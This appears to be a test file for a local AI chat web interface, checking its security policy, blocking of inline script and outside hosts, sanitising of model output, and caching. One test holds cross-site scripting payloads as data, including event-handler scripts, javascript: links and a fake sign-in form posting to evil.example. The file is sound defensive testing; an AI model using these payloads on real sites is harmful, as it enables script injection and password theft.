// Safety: the policy holds, nothing leaves, and what a model says stays text.
import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';

import { House } from './house.mjs';

let house;
before(async () => (house = await House.open()));
after(() => house.close());

test('the page comes with a policy that allows no inline script or style and no other host', async () => {
  for (const path of ['/chat', '/sw.js']) {
    const response = await fetch(house.url + path, { headers: { Accept: 'text/html' } });
    const policy = response.headers.get('content-security-policy');
    assert.match(policy, /default-src 'self'/);
    assert.match(policy, /frame-ancestors 'none'/);
    assert.doesNotMatch(policy, /unsafe|https?:|\*/);
    assert.equal(response.headers.get('x-content-type-options'), 'nosniff');
  }
  const html = await (await fetch(`${house.url}/chat`)).text();
  assert.doesNotMatch(html, /<script(?![^>]*\ssrc=)|\sstyle=|\son[a-z]+=|https?:\/\//);
});

test('the policy is enforced: inline script and other hosts are refused by the browser', async () => {
  const page = await house.visit('/chat', { allowed: /Content Security Policy|ERR_|Failed to load/ });
  const ran = await page.evaluate(() => {
    const script = document.createElement('script');
    script.textContent = 'window.ran = true';
    document.body.append(script);
    return window.ran === true;
  });
  assert.equal(ran, false);
  const refused = await page.evaluate(() => fetch('http://127.0.0.1:9/').then(() => 'answered', () => 'refused'));
  assert.equal(refused, 'refused');
});

test('model output runs no script, loads nothing and draws no form', async () => {
  const attack = [
    '<script>window.hurt = 1</script>', '<img src=x onerror="window.hurt = 2">', '<svg onload="window.hurt = 3">',
    '[x](javascript:window.hurt=4)', '![a](https://tracker.example/a.png)', '<iframe src="https://evil.example"></iframe>',
    '<form action="https://evil.example"><input name="password"><button>Sign in</button></form>', '<style>body { display: none }</style>',
    '<div style="position:fixed;inset:0">over it all</div>', '$\\href{javascript:window.hurt=5}{x}$',
  ].join('\n\n');
  // In the question, the thoughts and the title, too.
  await house.conversation('<img src=x onerror=window.hurt=6>', [attack, attack], { message: { reasoning: attack } });
  const page = await house.visit();
  await page.locator('[data-conversation]').first().getByRole('link').click();
  await page.locator('.answer .prose').first().waitFor();
  await page.locator('.answer summary').click();
  await page.waitForTimeout(500);
  assert.equal(await page.evaluate(() => window.hurt), undefined);
  assert.equal(await page.locator('.answer :is(script, img, iframe, form, style, input)').count(), 0);
  assert.equal(await page.locator('#messages [style]:not(textarea)').count(), 0);
  for (const link of await page.locator('.answer .prose a').all()) assert.match(await link.getAttribute('href'), /^(https?|mailto):/);
  assert.deepEqual(page.problems, []);
});

test('a first visit loads less than 300 kB', async () => {
  const context = await house.browser.newContext();
  const page = await context.newPage();
  const client = await context.newCDPSession(page);
  await client.send('Network.enable');
  let bytes = 0;
  client.on('Network.loadingFinished', (event) => (bytes += event.encodedDataLength));
  await page.goto(`${house.url}/chat`);
  await page.locator('#composer').waitFor();
  await page.waitForLoadState('networkidle');
  await context.close();
  assert.ok(bytes > 20_000 && bytes < 300_000, `${bytes} bytes`);
});

test('files of the page are compressed, kept for ever where their name changes, and asked for again otherwise', async () => {
  const html = await (await fetch(`${house.url}/chat`)).text();
  const script = /src="(\/assets\/[^"]+\.js)"/.exec(html)[1];
  const response = await fetch(house.url + script, { headers: { 'Accept-Encoding': 'br' } });
  assert.equal(response.headers.get('content-encoding'), 'br');
  assert.match(response.headers.get('cache-control'), /immutable/);
  const shell = await fetch(`${house.url}/chat`);
  assert.equal(shell.headers.get('cache-control'), 'no-cache');
  const again = await fetch(`${house.url}/chat`, { headers: { 'If-None-Match': shell.headers.get('etag') } });
  assert.equal(again.status, 304);
  assert.equal(await (await fetch(`${house.url}/`, { headers: { Accept: '*/*' } })).text(), 'Ollama is running');
  const notices = await (await fetch(`${house.url}/assets/third-party.txt`)).text();
  for (const name of ['svelte', 'marked', 'dompurify', 'highlight.js', 'temml']) assert.match(notices, new RegExp(name));
});
